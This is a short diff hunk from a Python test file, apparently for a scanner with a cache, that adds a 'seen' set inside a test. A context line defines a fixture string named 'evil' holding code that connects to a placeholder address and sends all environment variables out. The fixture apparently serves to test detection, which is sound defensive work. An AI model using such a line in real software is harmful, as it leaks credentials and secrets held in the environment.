@@ -321,6 +321,7 @@ def test_what_all_families_remember_is_what_they_would_find(write: Writer, tmp_p
     evil = "import os, socket\n\n\ndef go():\n    socket.create_connection(('203.0.113.9', 80)).send(str(os.environ).encode())\n"
     folder = write(files)
     chosen = options(folder, cache=tmp_path / "scan.sqlite")
+    seen: set[str] = set()
     for change in (
         {},
         {},
